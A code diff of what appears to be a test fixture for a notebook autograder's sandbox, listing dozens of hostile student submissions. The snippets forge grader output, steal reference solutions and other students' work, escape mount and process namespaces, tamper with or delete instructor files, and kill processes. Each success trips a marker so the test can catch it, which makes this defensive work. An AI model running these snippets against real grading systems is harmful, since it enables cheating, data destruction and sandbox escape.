@@ -1,7 +1,25 @@
-"""What submissions may try: each attack is code that stands in the first solution cell, before a right `relu_forward`.
+"""What submissions may try: each attack is code that stands in the first solution cell, after a right `relu_forward`.
 
 The other functions' cells are empty, so that what an attack defines is what is examined. Predictions are untouched: an honest
-copy earns the points of `relu_forward` and no more.
+copy earns the point of `relu_forward` and no more. An attack that reaches what it must not reach calls `it_worked()`, which
+defines a right `relu_backward`: every success shows in the score. The test fills in what stands in braces: {course} and {engine}
+are folders of the run, {root} the repository, {port} a port on which the test listens, {mark} a word of this run.
+"""
+
+HELPERS = """
+def it_worked():
+    global relu_backward
+    relu_backward = lambda dvalues, z: np.where(z > 0, dvalues, 0.0)
+
+def frames():
+    import sys
+    found = []
+    try:
+        while True: found.append(sys._getframe(len(found)))  # f_back ends at IPython's coroutine
+    except ValueError: return found
+
+def the_wire():
+    return next(frame.f_locals["wire"] for frame in frames() if "wire" in frame.f_locals)
 """
 
 FORGING = {
@@ -26,6 +44,23 @@ shell = get_ipython()
 type(shell).showtraceback = lambda *a, **k: None
 type(shell)._showtraceback = lambda *a, **k: None
 shell.set_custom_exc((Exception,), lambda *a, **k: None)
+""",
+    "replace-the-course": """
+import sys, types
+class Passing(types.ModuleType):
+    def __getattr__(self, name): return lambda *a, **k: print("passed")
+for name in [name for name in sys.modules if name.split(".")[0] == "course"]: sys.modules[name] = Passing(name)
+relu_backward = exposing_case = dense_relu_backward = lambda *a: None
+""",
+    "replace-the-display-hook": """
+import sys
+shell = get_ipython()
+def three(value=None, *_):
+    points = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "3"}}
+    shell.recorder.outputs[:] = [points]
+sys.displayhook = three
+type(shell.displayhook).__call__ = lambda self, value=None: three(value)
+shell.events.register("post_run_cell", three)
 """,
     "rewrite-later-cells": """
 from IPython import get_ipython
@@ -88,7 +123,7 @@ inside.child._probe = lambda *a: inside.child.pack({"observations": "passed", "v
 """,
     "write-to-every-descriptor": """
 import os, json, struct
-head = json.dumps({"message": {"outputs": [], "count": 1, "observations": [], "value": "a"}, "arrays": []}).encode()
+head = json.dumps({"message": {"outputs": [], "count": 1, "observations": [], "value": "abcd"}, "arrays": []}).encode()
 for descriptor in range(3, 64):
     try: os.write(descriptor, struct.pack("<Q", len(head)) + head)
     except OSError: pass
@@ -107,12 +142,22 @@ for descriptor in range(3, 64):
 """,
     "read-frames": """
 import gc, sys, inspect
-found = [o for o in gc.get_objects() if type(o).__name__ in ("Case", "Exercise", "Kind")]
-frame, names = sys._getframe(), []
-while frame:
-    names += list(frame.f_locals); frame = frame.f_back
-assert not found, "leak: cases are reachable"
-relu_backward = found[0].reference if found else None
+for module in list(sys.modules):
+    if module.startswith("autograder"): it_worked()  # it holds the answers, so it has no business here
+kinds = ("Case", "Exercise", "Kind", "Verdict", "Examiner", "TestCell", "Question")
+for thing in gc.get_objects():
+    if type(thing).__name__ in kinds and type(thing).__module__.startswith("autograder"): it_worked()
+texts = []
+for frame in frames():
+    texts += [value for value in list(frame.f_locals.values()) if isinstance(value, str)]
+    try: texts.append(inspect.getsource(frame))
+    except (OSError, TypeError): pass
+assert any("wire.receive" in text for text in texts), "this does not see the frames of the room"
+texts += [value for thing in gc.get_objects() if isinstance(thing, (dict, list)) and thing is not texts
+          for value in (list(thing.values()) if isinstance(thing, dict) else list(thing)) if isinstance(value, str)]
+texts += [str(text) for text in globals().get("In", [])]
+secrets = ["### BEGIN " + "HIDDEN", "hidden_" + "cases(", "class Exa" + "miner", "known_mis" + "takes("]  # of the judge's side
+if any(secret in text for text in texts for secret in secrets): it_worked()
 """,
     "import-the-reference": """
 try:
@@ -122,9 +167,9 @@ except Exception:
 """,
     "load-the-reference-by-path": """
 import glob, importlib.util, os, sys
-places = [p for p in ["/", "/work", "/repo", *sys.path] if isinstance(p, str)]
+places = ["{root}", "{engine}", *(os.path.join(place, "autograder") for place in ["/", "/room", *sys.path]), *sys.path]
 for place in places:
-    for path in glob.glob(os.path.join(place, "**", "reference", "relu.py"), recursive=place not in ("/", "/work", "/repo")):
+    for path in glob.glob(os.path.join(place, "reference/relu.py")) + glob.glob(os.path.join(place, "*/reference/relu.py")):
         spec = importlib.util.spec_from_file_location("stolen", path); stolen = importlib.util.module_from_spec(spec)
         spec.loader.exec_module(stolen); relu_backward = stolen.relu_backward
 """,
@@ -160,11 +205,9 @@ def relu_backward(dvalues, z):
     return np.zeros_like(z)
 """,
     "early-replies": """
-import json, socket, struct, sys, threading, time
-frame = sys._getframe()
-while frame and "wire" not in frame.f_locals: frame = frame.f_back
-end = socket.socket(fileno=__import__("os").dup(frame.f_locals["wire"].end.fileno()))
-head = json.dumps({"message": {"outputs": [], "count": 1, "value": "a", "observations": [{"trouble": None, "results": [],
+import json, os, socket, struct, threading, time
+end = socket.socket(fileno=os.dup(the_wire().end.fileno()))
+head = json.dumps({"message": {"outputs": [], "count": 1, "value": "abcd", "observations": [{"trouble": None, "results": [],
     "again": [], "after": []}] * 8}, "arrays": []}).encode()
 def ahead():
     for _ in range(100):
@@ -216,18 +259,6 @@ def dense_relu_backward(dvalues, inputs, weights, biases):
 def exposing_case():
     return np.zeros((0, 3), np.float16), np.array(-2**63)
 """,
-    "leave-code-for-others": """
-import os
-mine, lie = os.urandom(4).hex(), "import inside.child; inside.child.observations = lambda *a: b''"
-for place in ("/room", "/room/course", "/", "/tmp", "/dev/shm", "/dev", "/matplotlib", "/scratch"):
-    for name in ("left-for-others", "random.py", "autograd.py", "course.py"):
-        try:
-            if os.path.exists(os.path.join(place, "left-for-others")) and name != "left-for-others" and os.getpid() == 1:
-                if not open(os.path.join(place, "left-for-others")).read().startswith(mine):
-                    relu_backward = lambda dvalues, z: np.where(z > 0, dvalues, 0.0)  # a submission before us was here
-            elif os.getpid() == 1: open(os.path.join(place, name), "w").write(mine + "\\n" + lie)
-        except OSError: pass
-""",
     "letters-that-are-more": """
 class Any(str):
     def __eq__(self, other): return True
@@ -245,7 +276,49 @@ np.seterr(all="raise"); np.set_printoptions(precision=1); np.random.seed(0)
 """,
 }
 
-FORGING["leave-code-for-others-again"] = FORGING["leave-code-for-others"]
+# Each stands twice in the class: the second gains something if it finds what the first left, or finds the first still running.
+NEIGHBOURS = {
+    "leave-code-for-others": """
+import os
+mine, lie = os.urandom(4).hex(), "import inside.child; inside.child.observations = lambda *a: b''"
+for place in ("/room", "/room/course", "/", "/tmp", "/dev/shm", "/dev", "/matplotlib", "/scratch"):
+    for name in ("left-for-others", "random.py", "autograd.py", "course.py"):
+        try:
+            if os.path.exists(os.path.join(place, "left-for-others")) and name != "left-for-others" and os.getpid() == 1:
+                if not open(os.path.join(place, "left-for-others")).read().startswith(mine):
+                    it_worked()  # a submission before us was here
+            elif os.getpid() == 1: open(os.path.join(place, name), "w").write(mine + "\\n" + lie)
+        except OSError: pass
+""",
+    "a-socket-without-a-file": """
+import os, socket, time
+end = socket.socket(socket.AF_UNIX)
+try:
+    end.connect("\\x00{mark}")
+    it_worked()
+except ConnectionRefusedError:
+    if os.fork() == 0:
+        try:
+            os.setsid(); end.bind("\\x00{mark}"); end.listen(); time.sleep(8)
+        finally: os._exit(0)
+""",
+    "shared-memory": """
+import ctypes, zlib
+libc = ctypes.CDLL(None, use_errno=True)
+key = zlib.crc32(b"{mark}") & 0x7fffffff
+if libc.shmget(key, 4096, 0o3666) < 0 and ctypes.get_errno() == 17:  # create, and it exists
+    it_worked()
+    libc.shmctl(libc.shmget(key, 0, 0o666), 0, None)
+""",
+    "a-keyring-of-the-kernel": """
+import ctypes, platform
+libc = ctypes.CDLL(None)
+add, control = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (0, 0))
+keyrings = [ctypes.c_int(one) for one in (-3, -4, -5) if add]  # of the session, of the user, of the user's sessions
+if any(ctypes.c_int(libc.syscall(control, 10, one, b"user", b"{mark}", 0)).value > 0 for one in keyrings): it_worked()
+for one in keyrings: libc.syscall(add, b"user", b"{mark}", b"x", 1, one)
+""",
+}
 
 # These change mounts: they may only ever run where the room has mounts of its own, never as a plain process of root.
 OWN_MOUNTS = {
@@ -257,12 +330,64 @@ for namespaces in (0, 0x10000000 | 0x20000):
     if namespaces: libc.unshare(namespaces)
     for place in (b"/proc", b"/scratch", b"/matplotlib", b"/tmp"): libc.umount2(place, 2)
     libc.mount(None, b"/", None, 32 | 4096, None)
-if [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) > 1]:  # processes outside are in reach
-    relu_backward = lambda dvalues, z: np.where(z > 0, dvalues, 0.0)
+if [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) > 1]: it_worked()  # processes outside are in reach
+""",
+    "mount-the-control-groups": """
+import ctypes, os
+assert os.getpid() == 1, "not in a process namespace of its own: nothing is tried"
+libc = ctypes.CDLL(None)
+os.mkdir("m")
+child = os.fork()
+if child == 0:  # whoever can write to m/cgroup.kill ends the grader; here it is enough to get so far
+    reached = libc.unshare(0x10000000 | 0x20000 | 0x02000000) == 0 or libc.mount(b"none", b"m", b"cgroup2", 0, None) == 0
+    os._exit(7 if reached else 0)
+if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7: it_worked()
 """,
 }
 
-# These read or write the instructor's own files: without bubblewrap nothing can stop a process of the same user.
+# These read the instructor's own files, or the network: without bubblewrap nothing can stop a process of the same user.
+IN_REACH_OF_A_PLAIN_PROCESS = {
+    "copy-the-solutions": """
+import json
+try:
+    cells = json.load(open("{course}/source/07-relu/relu.ipynb"))["cells"]
+    for cell in cells:
+        if "BEGIN SOLUTION" in "".join(cell["source"]): exec("".join(cell["source"]), globals())
+except OSError: pass
+""",
+    "copy-another-submission": """
+import json
+try:
+    cells = json.load(open("{course}/submitted/model/07-relu/relu.ipynb"))["cells"]
+    for cell in cells:
+        if "def relu_backward" in "".join(cell["source"]): exec("".join(cell["source"]), globals())
+except OSError: pass
+""",
+    "open-by-a-symbolic-link": """
+import json, os
+os.symlink("{course}/submitted", "link")
+try:
+    cells = json.load(open("link/model/07-relu/relu.ipynb"))["cells"]
+    for cell in cells:
+        if "def relu_backward" in "".join(cell["source"]): exec("".join(cell["source"]), globals())
+except OSError: pass
+""",
+    "read-the-seed": """
+try:
+    if b"seed" in open("{course}/.autograder-run.json", "rb").read(): it_worked()
+except OSError: pass
+""",
+    "open-a-connection": """
+import socket
+for address in (("127.0.0.1", {port}), ("192.0.2.1", 80)):
+    try: socket.create_connection(address, timeout=0.5); it_worked()
+    except OSError: pass
+try: socket.getaddrinfo("example.org", 80); it_worked()
+except OSError: pass
+""",
+}
+
+# These write the instructor's own files.
 OWN_FILES = {
     "write-the-gradebook": """
 import glob, sqlite3
@@ -277,23 +402,30 @@ for path in glob.glob("{course}/submitted/*/*/*.ipynb") + glob.glob("{course}/so
     try: open(path, "w").write("gone")
     except OSError: pass
 os.symlink("{course}/source", "link")
+for path in glob.glob("link/*/*.ipynb"):
+    try: os.remove(path)
+    except OSError: pass
 """,
-    "copy-the-solutions": """
-import json
-try:
-    cells = json.load(open("{course}/source/07-relu/relu.ipynb"))["cells"]
-    for cell in cells:
-        if "BEGIN SOLUTION" in "".join(cell["source"]): exec("".join(cell["source"]), globals())
-except OSError: pass
+    "change-the-engine": """
+import course, glob, inside.child
+for path in glob.glob("{engine}/**/*.py*", recursive=True) + [course.__file__, inside.child.__file__]:
+    try: open(path, "a").write("raise SystemExit")
+    except OSError: pass
 """,
     "delete-everything": """
 import os, shutil
-for place in ("{course}/submitted", "{course}/source", os.getcwd()):
+for place in ("{course}/submitted", "{course}/source", "{engine}", os.getcwd()):
     shutil.rmtree(place, ignore_errors=True)
 """,
 }
 
 BREAKING = {
+    "an-answer-that-sleeps-when-forgotten": """
+import time
+class Slow:
+    def __del__(self): time.sleep(1000)
+relu_backward = lambda *a: Slow()
+""",
     "endless-loop": "while True: pass",
     "endless-loop-that-catches": """
 import time
@@ -345,22 +477,20 @@ display({"application/json": deep, "text/plain": "\\ud800", "notjson": {"a": 1}}
 raise ValueError("\\ud800" * 10**6)
 """,
     "half-a-message": """
-import sys, time
-frame = sys._getframe()
-while frame and "wire" not in frame.f_locals: frame = frame.f_back
-frame.f_locals["wire"].end.sendall((1000).to_bytes(8, "little") + b'{"message": ')
+import time
+the_wire().end.sendall((1000).to_bytes(8, "little") + b'{"message": ')
 time.sleep(1000)
 """,
     "closes-its-wire": """
-import sys, time
-frame = sys._getframe()
-while frame and "wire" not in frame.f_locals: frame = frame.f_back
-frame.f_locals["wire"].end.close()
+import time
+the_wire().end.close()
 time.sleep(1000)
 """,
     "a-head-full-of-nothing": """
 import inside.child
+real = inside.child._run, inside.child._probe
 def flood(*_):
+    inside.child._run, inside.child._probe = real
     head = b'{"message": {"outputs": [' + b"[]," * (5 * 2**20) + b'[]], "count": 1}, "arrays": []}'
     return len(head).to_bytes(8, "little") + head
 inside.child._run = inside.child._probe = flood
@@ -372,14 +502,19 @@ import os, time
 if os.fork() == 0:
     while True: time.sleep(0.1)
 """,
+    "leaves-another-program-running": "import subprocess\nsubprocess.Popen(['sleep', '1000'])",
     "a-gigantic-answer": "import numpy as np\nrelu_backward = lambda *a: np.zeros((3, 10**9))",
     "sleeps-in-the-answer": """
 import time
 class Slow:
     def __array__(self, *a, **k): time.sleep(1000)
-    def __repr__(self): time.sleep(1000)
-    def __del__(self): time.sleep(1000)
 relu_backward = lambda *a: Slow()
+""",
+    "sleeps-when-shown": """
+import time
+class Slow:
+    def __repr__(self): time.sleep(1000)
+Slow()
 """,
     "crashes-in-the-answer": """
 import os
@@ -387,16 +522,14 @@ relu_backward = lambda *a: os._exit(0)
 dense_relu_backward = lambda *a: os.kill(os.getpid(), 9)
 """,
     "sleeps-at-exit": "import atexit, time\natexit.register(time.sleep, 1000)",
-    "opens-sockets": """
-import socket
-for address in (("127.0.0.1", 5432), ("192.0.2.1", 80)):
-    try: socket.create_connection(address, timeout=0.5)
-    except OSError: pass
-try: socket.getaddrinfo("example.org", 80)
-except OSError: pass
-""",
     "asks-for-input": "input('password? ')",
     "changes-directory": "import os\nos.chdir('/')\nos.environ['PATH'] = ''",
 }
-# Killing every process one may signal: only where the room has processes of its own.
-KILLS_ALL = {"kills-everything": "import os\nos.kill(-1, 9)"}
+# Signals to every process, and daemons in a session of their own: only where the room has processes of its own.
+KILLS_ALL = {
+    "kills-everything": "import os\nos.kill(-1, 9)",
+    "leaves-a-daemon-of-another-program": "import subprocess\nsubprocess.Popen(['sleep', '1000'], start_new_session=True, env={})",
+}
+
+AGAIN = {f"{name}-again": code for name, code in NEIGHBOURS.items()}
+ATTACKS = FORGING | NEIGHBOURS | AGAIN | OWN_MOUNTS | IN_REACH_OF_A_PLAIN_PROCESS | OWN_FILES | BREAKING | KILLS_ALL
